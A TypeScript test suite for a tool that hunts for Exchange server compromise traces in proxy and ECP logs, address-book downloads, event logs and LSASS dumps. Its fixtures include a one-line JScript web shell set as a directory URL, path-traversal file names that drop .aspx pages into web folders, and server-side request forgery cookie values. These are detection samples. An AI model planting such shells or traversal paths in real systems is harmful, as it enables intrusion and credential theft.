import { all, both, type CollectorCase, casesOf, files, holds, parts } from './collectorCases'
import { root } from './collectorPlaces'
import { ecpServer, head, inJson, oab, proxy, request, stranger, written } from './intruderLogs'

const reset = 'ServerInfo~a]@EX01:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#'

const tag = (url: string): string =>
  `2026-10-29T02:14:00.000Z,EX01,ECP.Request,S:CMD=Set-OabVirtualDirectory.ExternalUrl=''${url}''.Identity=''x''\r\n`

const download = (path: string): string =>
  `2026-10-29T03:00:00.000Z,1,Download failed and temporary file '${path}' needs to be removed.\r\n`

const shell = 'http://f/<script language="JScript" runat="server">eval(Request["p"])</script>'

const tellsNot =
  (pattern: RegExp) =>
  (fact: unknown): string | null =>
    pattern.test(JSON.stringify(fact)) ? `it tells ${pattern}` : null

const messaging = (values: ReadonlyArray<string>, level = 2) => ({
  provider: 'MSExchange Unified Messaging',
  id: 1_423,
  level,
  at: '2026-11-10T08:12:00Z',
  values
})

const present: Parameters<typeof casesOf>[1] = [
  [
    'present',
    'requests to a place of their own, and those that are not',
    files({
      [`${proxy}\\Ecp\\a.LOG`]: written(
        '\ufeff' +
          head +
          request(stranger, '241') +
          request(reset, '200', '2026-10-29T02:12:05.000Z') +
          request(stranger, '200', '2026-10-29T02:13:00.000Z') +
          request('ServerInfo~EX02.contoso.example:444/autodiscover/autodiscover.xml') +
          request('ServerInfo~localhost:444/ecp') +
          request('ServerInfo~EX02.contoso.example') +
          request('"serverinfo~b,c/owa"', '302', '2026-10-29T02:14:00.000Z') +
          'ServerInfo~x/y,1,203.0.113.9,EX01,/ecp,Sid~S-1-5-21,200,ServerInfo~z/z\r\n',
        '2026-10-29T03:00:00Z'
      ),
      [`${proxy}\\Owa\\b.LOG`]: written(`#Fields: ${head}${request(reset)}`, '2026-10-28T03:00:00Z')
    }),
    both(
      holds(
        `{"rule":"serverInfo","file":"${inJson(proxy)}\\\\Ecp\\\\a.LOG","count":3,"first":"2026-10-29T02:11:40Z","last":"2026-10-29T02:14:00Z","clients":["203.0.113.7"],"statuses":["241","200","302"],"excerpt":"${stranger}"}`,
        `{"rule":"resetDirectory","file":"${inJson(proxy)}\\\\Ecp\\\\a.LOG","count":1,"first":"2026-10-29T02:12:05Z"`
      ),
      holds(
        `{"rule":"serverInfo","file":"${inJson(proxy)}\\\\Owa\\\\b.LOG","count":1`,
        `{"kind":"proxy","path":"${inJson(proxy)}\\\\Ecp","state":"present","since":"2026-10-29T03:00:00Z","files":1,"read":1`,
        '"unread":[]'
      ),
      tellsNot(/secret agent/)
    )
  ],
  [
    'present',
    'an address with a tag, in each of its spellings, and addresses without one',
    files({
      [`${ecpServer}\\ECPServer1.log`]:
        tag('https://mail.contoso.example/OAB') +
        tag('http://f/%3Cscript%3E') +
        tag(shell) +
        tag('http://f/<% code %>'),
      [`${ecpServer}\\ECPServer2.log`]:
        "2026-10-29T02:14:00.000Z,EX01,Set-OwaVirtualDirectory.Identity='owa<1>'.ExternalUrl='https://x/owa'\r\n"
    }),
    both(
      holds(
        `{"rule":"directoryUrl","file":"${inJson(ecpServer)}\\\\ECPServer1.log","count":3,"first":"2026-10-29T02:14:00Z"`,
        '"excerpt":"Set-OabVirtualDirectory Url=',
        `{"kind":"ecp","path":"${inJson(ecpServer)}","state":"present","since":"2020-11-01T08:00:00Z","files":2,"read":2`
      ),
      tellsNot(/"file":"[^"]*ECPServer2/)
    )
  ],
  [
    'present',
    'address books in another folder, and one that leaves its own by its path',
    files({
      [`${oab}\\a.log`]:
        download(`${root}ClientAccess\\OAB\\Temp\\1.lzx`) +
        download(`${root}ClientAccess\\OAB\\..\\..\\FrontEnd\\HttpProxy\\owa\\auth\\a.aspx`) +
        download('C:\\inetpub\\wwwroot\\aspnet_client\\b.aspx')
    }),
    holds(
      `{"rule":"oabDownload","file":"${inJson(oab)}\\\\a.log","count":2,"first":"2026-10-29T03:00:00Z"`,
      `"excerpt":"${inJson(`${root}ClientAccess\\OAB\\..\\..\\FrontEnd`)}`
    )
  ],
  [
    'present',
    'errors of Unified Messaging, dumps and archives',
    all(
      parts({
        logs: {
          Application: [
            messaging(['System.InvalidCastException: no']),
            messaging(['System.Exception']),
            messaging(['System.InvalidCastException'], 3)
          ]
        }
      }),
      files({
        'C:\\Windows\\Temp\\a\\lsass.exe_1.dmp': 'abc',
        'C:\\root\\LSASS.DMP': '',
        'C:\\Windows\\Temp\\other.dmp': '',
        'C:\\ProgramData\\x\\out.7z': '',
        'C:\\ProgramData\\x\\out.txt': ''
      })
    ),
    both(
      holds(
        '"messaging":{"since":"2026-11-10T08:12:00Z","events":[{"id":1423,"at":"2026-11-10T08:12:00Z"}]}',
        '{"kind":"dump","path":"C:\\\\Windows\\\\Temp\\\\a\\\\lsass.exe_1.dmp","size":3,"modified":"2020-11-01T08:00:00Z"}',
        'C:\\\\root\\\\LSASS.DMP"',
        '{"kind":"archive","path":"C:\\\\ProgramData\\\\x\\\\out.7z"'
      ),
      tellsNot(/other\.dmp|out\.txt/)
    )
  ],
  [
    'present',
    'a link, which is not followed',
    all(files({ [`${proxy}\\Ecp\\a.log`]: head + request(stranger) }), parts({ links: [`${proxy}\\Ecp`] })),
    holds(
      '"hits":[]',
      `{"kind":"proxy","path":"${inJson(proxy)}\\\\Ecp","reason":"it is a link, which is not followed"}`
    )
  ]
]

export const collectorOfFoundTraces: ReadonlyArray<CollectorCase> = casesOf('iocTraces', present)
